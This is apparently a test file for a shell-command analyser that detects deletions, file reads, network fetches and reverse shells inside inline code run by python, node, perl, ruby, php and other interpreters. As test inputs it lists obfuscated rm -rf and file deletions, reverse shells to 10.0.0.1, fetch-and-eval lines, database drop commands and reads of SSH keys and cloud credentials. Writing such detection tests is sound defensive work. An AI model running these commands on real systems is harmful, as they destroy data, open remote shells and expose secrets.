"""Code of other languages within a command line."""

from __future__ import annotations

import pytest

from governance.shell import HOLE, read_line
from governance.shell.draft import quoted
from governance.shell.expressions import Source


def facts(program: str, text: str, fact: str) -> set[str]:
    """A fact of everything that a text runs."""
    line = read_line(f"{program} {quoted(text)}")
    assert text in line.commands[0].code
    return {one for command in line.commands for one in getattr(command, fact)}


@pytest.mark.parametrize(
    ("program", "text"),
    [
        ("python -c", "import os; os.system('rm -rf /x')"),
        ("python -c", "import os as o; o.popen('rm -rf /x')"),
        ("python -c", "__import__('os').system('rm -rf /x')"),
        ("python -c", "getattr(os, 'system')('rm -rf /x')"),
        ("python -c", "import subprocess; subprocess.run(['rm', '-rf', '/x'], check=True)"),
        ("python -c", "from subprocess import run; run('rm -rf ' + '/x', shell=True)"),
        ("python -c", "c = 'rm -rf /x'\nimport os\nos.system(c)"),
        ("python -c", "import os; os.execvp('rm', ['rm', '-rf', '/x'])"),
        ("python -c", "import shutil; shutil.rmtree('/x')"),
        ("python -c", "import os; [os.remove(f) for f in ['/x']]"),
        ("python -c", "from pathlib import Path; Path('/x').unlink()"),
        ("python -c", "from pathlib import Path; p = Path('/') / 'x'; p.rmdir()"),
        ("python -c", "exec(\"import os; os.remove('/x')\")"),
        (
            "python -c",
            "import base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnJlbW92ZSgnL3gnKQ=='))",
        ),
        ("node -e", "require('child_process').execSync('rm -rf /x')"),
        ("node -e", "const {spawn} = require('child_process'); spawn('rm', ['-rf', '/x'])"),
        ("node -e", "const c = require('child_process'); c.exec(`rm -rf /x`)"),
        ("node -e", "require('fs').rmSync('/x', {recursive: true})"),
        ("node -e", "const f = require('fs'); f.unlinkSync('/x')"),
        ("deno eval", "Deno.removeSync('/x')"),
        ("perl -e", "system('rm -rf /x')"),
        ("perl -e", "unlink '/x'"),
        ("perl -e", "my $c = '/x'; `rm -rf /x`"),
        ("perl -MFile::Path -e", "rmtree('/x')"),
        ("ruby -e", "system('rm', '-rf', '/x')"),
        ("ruby -e", "FileUtils.rm_rf('/x')"),
        ("ruby -e", "%x(rm -rf /x)"),
        ("ruby -e", "File.delete '/x'"),
        ("php -r", "shell_exec('rm -rf /x');"),
        ("php -r", "unlink('/x');"),
        ("lua -e", "os.execute('rm -rf /x')"),
        ("lua -e", "os.remove('/x')"),
        ("python -m timeit", "__import__('os').remove('/x')"),
        ("python -c", "from os import remove as r; r('/x')"),
        ("python -c", "import importlib as i; i.import_module('os').remove('/x')"),
        ("python -c", "getattr(__import__('os'), 'sys' + 'tem')('rm -rf /x')"),
        ("python -c", "import os\nfor n in ('x', 'x'): os.remove(os.path.join('/', n))"),
        ("python -c", "import os\nfor n in ('x', 'x'): os.remove(f'/{n}')"),
        ("python -c", "import pathlib\nfor n in ('x',): (pathlib.Path('/') / n).unlink()"),
        ("node -e", "const {rmSync: r} = require('fs'); r('/x')"),
        ("node -e", "const fs = require('fs'), f = '/x'; fs.rmSync(f)"),
        ("bun -e", "await $`rm -rf /x`"),
        ("php -r", "foreach (glob('/x') as $f) unlink($f);"),
    ],
)
def test_what_is_removed_is_seen(program: str, text: str) -> None:
    """By a call of the language, or by a command that it runs."""
    assert facts(program, text, "removes") == {"/x"}


@pytest.mark.parametrize(
    ("program", "text", "fact", "paths"),
    [
        ("python -c", "open('/x', 'w').write('')", "writes", {"/x"}),
        ("python -c", "open('/x', mode='a')", "writes", {"/x"}),
        ("python -c", "print(open('/x').read())", "reads", {"/x"}),
        ("python -c", "open(os.path.expanduser('~/.ssh/id'))", "reads", {"~/.ssh/id"}),
        ("python -c", "open(os.environ['HOME'] + '/x')", "reads", {"~/x"}),
        ("python -c", "open(os.path.join('/a', 'b'))", "reads", {"/a/b"}),
        ("python -c", "open(f'/a/{name}')", "reads", {f"/a/{HOLE}"}),
        ("python -c", "(Path.home() / '.x').write_text('')", "writes", {"~/.x"}),
        ("python -c", "shutil.copy('/a', '/b')", "writes", {"/b"}),
        ("node -e", "fs.writeFileSync('/x', '')", "writes", {"/x"}),
        ("node -e", "fs.readFileSync(process.env.HOME + '/.x')", "reads", {"~/.x"}),
        ("node -e", "fs.readFileSync(`${process.env.HOME}/.x`)", "reads", {"~/.x"}),
        ("php -r", "file_put_contents('/x', 1);", "writes", {"/x"}),
        ("ruby -e", "File.write('/x', '')", "writes", {"/x"}),
        ("ruby -e", "puts File.read('/x')", "reads", {"/x"}),
        ("perl -e", "open(F, '>', '/x')", "writes", {"/x"}),
        ("perl -e", "open(F, '</x')", "reads", {"/x"}),
        ("awk", '{print > "/x"}', "writes", {"/x"}),
    ],
)
def test_files_of_code_are_seen(program: str, text: str, fact: str, paths: set[str]) -> None:
    """Constants, what joins them, and the home folder are understood; all else is a hole."""
    assert facts(program, text, fact) == paths


@pytest.mark.parametrize(
    ("program", "text", "host"),
    [
        (
            "python -c",
            "s.connect(('10.0.0.1', 4242)); os.dup2(s.fileno(), 0); import socket;"
            " pty.spawn('/bin/sh')",
            "10.0.0.1",
        ),
        ("php -r", "$s=fsockopen('10.0.0.1',1);exec('/bin/sh -i <&3');", "10.0.0.1"),
        ("ruby -rsocket -e", "f=TCPSocket.open('10.0.0.1',1);exec '/bin/sh -i'", "10.0.0.1"),
        ("node -e", "require('net').connect(1, '10.0.0.1', s => spawn('sh'))", "10.0.0.1"),
    ],
)
def test_a_shell_on_a_socket_is_seen(program: str, text: str, host: str) -> None:
    """The other end is a domain, and the shell a command of its own."""
    line = read_line(f"{program} {quoted(text)}")

    assert host in line.commands[0].domains
    assert "socket" in {name for one in line.commands for name in one.wrappers}


@pytest.mark.parametrize(
    ("text", "language", "value"),
    [
        ("'a' + 'b'", "python", "ab"),
        ("'a' . 'b'", "php", "ab"),
        ("'/a' / 'b'", "python", "/a/b"),
        ("'a'.join(['x', 'y'])", "python", "xay"),
        ("'rm {}'.format('x')", "python", "rm x"),
        ("'rm x'.split()", "python", ["rm", "x"]),
        ("['a', 'b']", "python", ["a", "b"]),
        ("'\\x41'", "python", "A"),
        ("atob('cm0=')", "node", "rm"),
        ("%w[rm x]", "ruby", ["rm", "x"]),
        ("unknown", "python", HOLE),
        ("f(", "python", HOLE),
        ("", "python", HOLE),
    ],
)
def test_values_of_constants(text: str, language: str, value: str | list[str]) -> None:
    """An expression of constants has its value; any other is a hole."""
    assert Source(text, language).value(0)[0] == value


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("psql -c 'drop table x'", "drop table x"),
        ("mysql -e 'drop table x'", "drop table x"),
        ("sqlite3 a.db 'drop table x'", "drop table x"),
        ("echo 'drop table x' | psql h", "drop table x"),
        ("psql -c 'select 1; drop/**/table x -- all'", "drop table x"),
        ("cockroach sql -e 'drop table x'", "drop table x"),
        ("printf 'get a\\nFLUSHALL\\n' | redis-cli", "FLUSHALL"),
        ("echo 'drop table x' | python manage.py dbshell", "drop table x"),
        ("echo 'drop table x' | rails dbconsole", "drop table x"),
        ("echo 'User.delete_all' | rails console", "User.delete_all\n"),
        ("python3 -c \"c.execute('select 1; drop table x')\"", "drop table x"),
        ("node -e \"db.exec('drop table x')\"", "drop table x"),
        ("redis-cli -h r FLUSHALL", "FLUSHALL"),
        ("mongosh --eval 'db.x.drop()'", "db.x.drop()"),
        ("bq query 'drop table x'", "drop table x"),
        ("clickhouse-client -q 'drop table x'", "drop table x"),
    ],
)
def test_statements_are_code(text: str, code: str) -> None:
    """What a database is told stands in `code`, from an option, an operand or the input."""
    assert code in {one for command in read_line(text).commands for one in command.code}


@pytest.mark.parametrize("reader", ["json.load", "json.loads", "yaml.safe_load", "re.compile"])
def test_what_is_only_parsed_is_not_run(reader: str) -> None:
    """A text from the network that is read as data hides no command."""
    line = read_line(f"python -c \"{reader}(urllib.request.urlopen('https://x.org').read())\"")

    assert line.blind is None


@pytest.mark.parametrize("runner", ["exec", "eval", "marshal.loads", "os.system"])
def test_what_is_run_from_the_network_blinds(runner: str) -> None:
    """A text from the network that is run may be any command."""
    line = read_line(f"python -c \"{runner}(urllib.request.urlopen('https://x.org').read())\"")

    assert line.blind is not None


@pytest.mark.parametrize(
    ("program", "text", "runs"),
    [
        ("node -e", "fetch('https://a.b/x').then(r=>r.text()).then(t=>(0,eval)(t))", True),
        ("node -e", "fetch('https://a.b/x').then(r=>r.json()).then(j=>console.log(j))", False),
        ("python -c", "import subprocess, urllib.request\ns = urllib.request.urlopen('https://a.b/x')"
         ".read()\nsubprocess.run(['sh'], input=s)", True),
        ("python -c", "import subprocess, urllib.request\ns = urllib.request.urlopen('https://a.b/x')"
         ".read()\nsubprocess.run(['less'], input=s)", False),
        ("python -c", "import re, requests\nt = requests.get('https://a.b/x').text\n"
         "re.compile('a').exec(t)", False),
    ],
)  # fmt: skip
def test_what_was_fetched_before_is_run(program: str, text: str, runs: bool) -> None:
    """Text that came from elsewhere and is evaluated, or handed to a shell, some lines later."""
    kinds = {one.kind for one in read_line(f"{program} {quoted(text)}").commands[0].opaque}
    assert ("input" in kinds) is runs


@pytest.mark.parametrize(
    ("line", "removed"),
    [
        ('php -r \'array_map("unlink", glob("a/*"));\'', ["a/*"]),
        ("perl -e 'unlink glob \"$ENV{HOME}/*\"'", ["~/*"]),
        ("ruby -e 'Dir[\"#{Dir.home}/*\"].each { |f| File.delete(f) }'", ["~/*"]),
        ("node -e 'globSync(\"a/*\").forEach(f => fs.rmSync(f))'", ["a/*"]),
        ("python3 -c 'list(map(os.remove, glob.glob(\"a/*\")))'", ["a/*"]),
        ("python3 -c 'import shutil; shutil.rmtree(Path.cwd().parent)'", ["./.."]),
        ("python3 -c 'import shutil; shutil.rmtree(Path(x).parent)'", [HOLE]),
        ('vim -es -c \'call delete(expand("~/a"), "rf")\' -c q', ["~/a"]),
        ("nvim -c 'lua vim.fs.rm(\"a\")' -c q", ["a"]),
        ("emacs --batch --eval '(delete-directory (expand-file-name \"~/a\") t)'", ["~/a"]),
    ],
)
def test_each_of_many_is_removed(line: str, removed: list[str]) -> None:
    """A call for each of many, an editor's own calls, and folders beside this one are known."""
    found = [one for command in read_line(line).commands for one in command.removes]
    assert list(dict.fromkeys(found)) == removed


@pytest.mark.parametrize(
    ("line", "fetches"),
    [
        ("vim -c 'source https://a.test/x.vim' -c q", True),
        ("vim -c 'source x.vim' -c q", False),
        ("emacs --eval '(load (url-file-local-copy \"https://a.test/x.el\"))'", True),
        ("emacs --eval '(load \"x.el\")'", False),
        ('python3 -c \'urlretrieve("https://a.test/x", "x"); runpy.run_path("x")\'', True),
        ("python3 -c 'x = \"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\"'", False),
    ],
)
def test_a_text_that_an_editor_or_a_program_fetches_is_unread(line: str, fetches: bool) -> None:
    """What is fetched and run at once is opaque as input; a text that is only kept is not."""
    found = read_line(line)
    blind = {one.kind for command in found.commands for one in command.opaque}
    assert ("input" in blind) == fetches
    assert not any("socket" in one.wrappers for one in found.commands)


def test_what_a_client_of_a_store_reads_is_known() -> None:
    """`upload_file` and the reader of settings read the file that they are given."""
    for line in ("upload_file('.env', 'b')", "c.read(os.path.expanduser('~/.aws/credentials'))"):
        found = read_line(f'python3 -c "{line}"').commands[-1]
        assert found.reads, line
    assert read_line("python3 -c 'f.read(100)'").commands[-1].reads == ()
